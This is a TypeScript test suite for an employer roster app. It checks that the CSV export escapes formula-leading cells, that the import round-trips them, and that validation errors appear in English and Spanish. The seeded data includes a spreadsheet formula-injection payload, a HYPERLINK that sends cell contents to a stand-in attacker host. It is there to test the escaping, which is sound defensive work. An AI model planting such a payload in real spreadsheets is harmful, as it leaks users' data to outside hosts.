/**
 * The roster row round trip: the employer's own roster.csv, imported back untouched, plans no
 * change (spreadsheet formula escaping is written by the export and read back by the import),
 * and every refusal shows the offending value, in English and Spanish.
 */
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import * as importRoute from "#app/routes/employer.import.tsx";
import * as rosterCsv from "#app/routes/employer.roster[.csv].ts";
import * as addWorker from "#app/routes/employer.workers.new.tsx";
import * as worker from "#app/routes/employer.workers.$employmentId.tsx";
import { joinAsWorker, post, call, signInAs, snapshotCounts, startTestApp } from "#tests/support/harness.ts";

const DAY = 86_400_000;
let admin: string;
let today: string;
let mainSite: string;
const daysAgo = (n: number) => new Date(Date.parse(`${today}T00:00:00Z`) - n * DAY).toISOString().slice(0, 10);

type RowError = { line: number; message: string };
type Plan = { added: unknown[]; changed: { name: string; changes: string[] }[]; unchanged: number; missing: unknown[] };

function csvFile(text: string, name = "roster.csv") {
  const form = new FormData();
  form.set("intent", "preview");
  form.set("file", new File([text], name, { type: "text/csv" }));
  return form;
}

async function preview(text: string, lang = "en") {
  return post(importRoute.action, "/employer/import", { cookie: admin, formData: csvFile(text), headers: { "Accept-Language": lang } });
}

async function exportCsv() {
  const res = await call(rosterCsv.loader, "/employer/roster.csv", { cookie: admin });
  expect(res.status).toBe(200);
  return res.data as string;
}

async function add(fields: Record<string, string>) {
  const form = { fullName: "", employeeId: "", jobRole: "housekeeping", siteId: "", hireDate: daysAgo(10), email: "", phone: "", language: "", ...fields };
  const res = await post(addWorker.action, "/employer/workers/new", { cookie: admin, form });
  expect(res.status, JSON.stringify(res.data)).toBe(302);
  return res.location!.split("/").at(-1)!;
}

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';

beforeAll(async () => {
  await startTestApp();
  admin = await signInAs("demo-employer");
  const { now } = await import("#app/utils/clock.server.ts");
  today = now().toISOString().slice(0, 10);
  const { getDb } = await import("#app/utils/db.server.ts");
  mainSite = (getDb().$client.prepare("SELECT id FROM sites WHERE join_code = 'LAKESIDE-MAIN'").get() as { id: string }).id;

  // The demo roster has José Núñez (certified), Samuel Okafor (+1 608 … phone), Greta Lindqvist (left).
  await add({ fullName: FORMULA_NAME, employeeId: "LI-5001", siteId: mainSite });
  await add({ fullName: "@SUM(A1:A9)", employeeId: "LI-5002", phone: "-555 0100" });
  await add({ fullName: "'=already quoted", employeeId: "LI-5003", email: "quoted@example.org" });
  await add({ fullName: "Begoña Muñoz Ibáñez", employeeId: "LI-5004", phone: "+34 612 345 678", language: "es", siteId: mainSite });
  await add({ fullName: 'Lee "Red", Park', employeeId: "LI-5005", jobRole: "front-desk", hireDate: daysAgo(500) });
  // A worker the admin added without an employee ID, and one who joined by the poster's QR code.
  await add({ fullName: "Sin Número", jobRole: "maintenance" });
  await joinAsWorker({ username: "qr-joiner", role: "housekeeping", name: "+Quick Joiner" });
  // A second leaver, with a formula-like name.
  const leaver = await add({ fullName: "-Former Worker", employeeId: "LI-5006", hireDate: daysAgo(200), phone: "+1 512 555 0199" });
  const left = await post(worker.action, `/employer/workers/${leaver}`, { cookie: admin, params: { employmentId: leaver }, form: { intent: "terminate", terminationDate: daysAgo(5) } });
  expect(left.status).toBe(200);
});

describe("roster.csv → import", () => {
  it("escapes every formula-leading cell the way spreadsheets need", async () => {
    const records = parse(await exportCsv(), { bom: true, columns: true }) as Record<string, string>[];
    const by = (id: string) => records.find((r) => r.employee_id === id)!;
    expect(by("LI-5001").name).toBe(`'${FORMULA_NAME}`);
    expect(by("LI-5002").name).toBe("'@SUM(A1:A9)");
    expect(by("LI-5002").phone).toBe("'-555 0100");
    // A name that really begins with ' before a formula character keeps its quote.
    expect(by("LI-5003").name).toBe("''=already quoted");
    expect(by("LI-1004").phone).toBe("'+1 608 555 0134");
    expect(by("LI-5004")).toMatchObject({ name: "Begoña Muñoz Ibáñez", phone: "'+34 612 345 678", language: "es" });
    expect(records.find((r) => r.joined_as === "qr-joiner")!.name).toBe("'+Quick Joiner");
    for (const r of records) for (const v of Object.values(r)) expect(v, v).not.toMatch(/^\s*[=+\-@\t\r]/);
  });

  it("imports the employer's own export, untouched, as no change at all", async () => {
    const text = await exportCsv();
    const res = await preview(text);
    expect(res.status, JSON.stringify(res.data)).toBe(200);
    const plan = (res.data as { plan: Plan }).plan;
    const rows = (parse(text, { bom: true, columns: true }) as unknown[]).length;
    expect(plan).toEqual({ added: [], changed: [], unchanged: rows, missing: [], counts: { added: 0, changed: 0, missing: 0 } });

    const p = res.data as { pendingId: string; sha256: string };
    const before = await snapshotCounts();
    const { getDb } = await import("#app/utils/db.server.ts");
    const roster = () => getDb().$client.prepare("SELECT id, full_name, employee_id, job_role, site_id, hire_date, email, phone, language, ended_at FROM employments ORDER BY id").all();
    const rosterBefore = roster();
    const done = await post(importRoute.action, "/employer/import", { cookie: admin, form: { intent: "import", pendingId: p.pendingId, sha256: p.sha256 } });
    expect(done.status).toBe(200);
    expect(await snapshotCounts()).toEqual(before);
    expect(roster()).toEqual(rosterBefore);
    expect(rosterBefore).toContainEqual(expect.objectContaining({ full_name: FORMULA_NAME, employee_id: "LI-5001" }));
  });

  it("still reads a change made by hand in the export, and unescapes the new value", async () => {
    const text = (await exportCsv()).replace("'+1 608 555 0134", "'+1 608 555 0999");
    const res = await preview(text);
    expect(res.status, JSON.stringify(res.data)).toBe(200);
    expect((res.data as { plan: Plan }).plan.changed).toEqual([{ name: "Samuel Okafor", employeeId: "LI-1004", changes: ["phone: +1 608 555 0134 → +1 608 555 0999"] }]);
  });

  it("refuses a row without an employee ID that is not on the roster as it stands, naming the row", async () => {
    const text = (await exportCsv()).replace("Sin Número", "Sin Número Nuevo");
    const res = await preview(text);
    expect(res.status).toBe(400);
    const errors = (res.data as { rowErrors: RowError[] }).rowErrors;
    expect(errors).toHaveLength(1);
    expect(errors[0]!.message).toMatch(/Sin Número Nuevo/);
  });
});

describe("problems show the offending value", () => {
  const header = "Name,Employee ID,Role,Site,Hire Date,Email,Phone";
  it("in the import preview, with the line, in English and Spanish; nothing is written", async () => {
    const long = "x".repeat(150);
    const csv = [header, `Ok Person,LI-6001,housekeeping,Main building,${daysAgo(1)},,call me maybe`, `${long},LI-6002,housekeeping,Main building,${daysAgo(1)},not-an-email,`, `Bad Id,LI 6003,housekeeping,Main building,${daysAgo(1)},,`].join("\n");
    const before = await snapshotCounts();
    const res = await preview(csv);
    expect(res.status).toBe(400);
    const errors = (res.data as { rowErrors: RowError[] }).rowErrors;
    expect(errors.map((e) => e.line)).toEqual([2, 3, 3, 4]);
    expect(errors[0]!.message).toBe('phone "call me maybe" may hold only digits, spaces and + ( ) . -');
    expect(errors[1]!.message).toBe(`name "${"x".repeat(59)}…" is longer than 100 characters`);
    expect(errors[2]!.message).toBe('email "not-an-email" is not an email address');
    expect(errors[3]!.message).toBe('employee id "LI 6003" may hold only letters, digits and . _ / -');
    const es = ((await preview(csv, "es")).data as { rowErrors: RowError[] }).rowErrors;
    expect(es[0]!.message).toBe('el teléfono "call me maybe" solo puede tener dígitos, espacios y + ( ) . -');
    expect(es[2]!.message).toBe('el correo electrónico "not-an-email" no es una dirección válida');
    expect(await snapshotCounts()).toEqual(before);
  });

  it("in the add-worker form, in English and Spanish; nothing is written", async () => {
    const before = await snapshotCounts();
    const form = { fullName: "Val Idation", employeeId: "LI 7001", jobRole: "housekeeping", siteId: "", hireDate: "31/31/2026", email: "nope", phone: "call me", language: "" };
    const res = await post(addWorker.action, "/employer/workers/new", { cookie: admin, form });
    expect(res.status).toBe(400);
    const errors = (res.data as { errors: Record<string, string> }).errors;
    expect(errors.employeeId).toContain("LI 7001");
    expect(errors.hireDate).toContain("31/31/2026");
    expect(errors.email).toContain("nope");
    expect(errors.phone).toContain("call me");
    const es = await post(addWorker.action, "/employer/workers/new", { cookie: admin, form, headers: { "Accept-Language": "es" } });
    expect((es.data as { errors: Record<string, string> }).errors.phone).toMatch(/^"call me"/);
    // Too long: a message in the page's language, not the validator's English.
    const tooLong = await post(addWorker.action, "/employer/workers/new", { cookie: admin, form: { ...form, employeeId: "L".repeat(41), hireDate: daysAgo(1), email: "", phone: "" } });
    expect((tooLong.data as { errors: Record<string, string> }).errors.employeeId).toMatch(/^Use at most 40 characters/);
    expect(await snapshotCounts()).toEqual(before);
  });

  it("in the edit form, through the same schema; the row is left as it was", async () => {
    const { getDb } = await import("#app/utils/db.server.ts");
    const id = (getDb().$client.prepare("SELECT id FROM employments WHERE employee_id = 'LI-1004'").get() as { id: string }).id;
    const row = () => getDb().$client.prepare("SELECT full_name, phone, site_id FROM employments WHERE id = ?").get(id);
    const before = row();
    const form = { intent: "edit", fullName: "Samuel Okafor", employeeId: "LI-1004", jobRole: "maintenance", siteId: "Nowhere", hireDate: daysAgo(3), email: "", phone: "+1 608 555 0134 ext. 9" };
    const res = await post(worker.action, `/employer/workers/${id}`, { cookie: admin, params: { employmentId: id }, form });
    expect(res.status).toBe(400);
    const errors = (res.data as { errors: Record<string, string> }).errors;
    expect(errors.phone).toBe('"+1 608 555 0134 ext. 9": use only digits, spaces and + ( ) . - in the phone number');
    expect(errors.siteId).toBe("Choose one of your sites");
    expect(row()).toEqual(before);
    // The same form with a site named as the file names it, and a role by its label, saves.
    const ok = await post(worker.action, `/employer/workers/${id}`, { cookie: admin, params: { employmentId: id }, form: { ...form, siteId: mainSite, jobRole: "MAINTENANCE OR ENGINEERING", phone: "+1 608 555 0135" } });
    expect(ok.status, JSON.stringify(ok.data)).toBe(200);
    expect(row()).toEqual({ full_name: "Samuel Okafor", phone: "+1 608 555 0135", site_id: mainSite });
  });
});
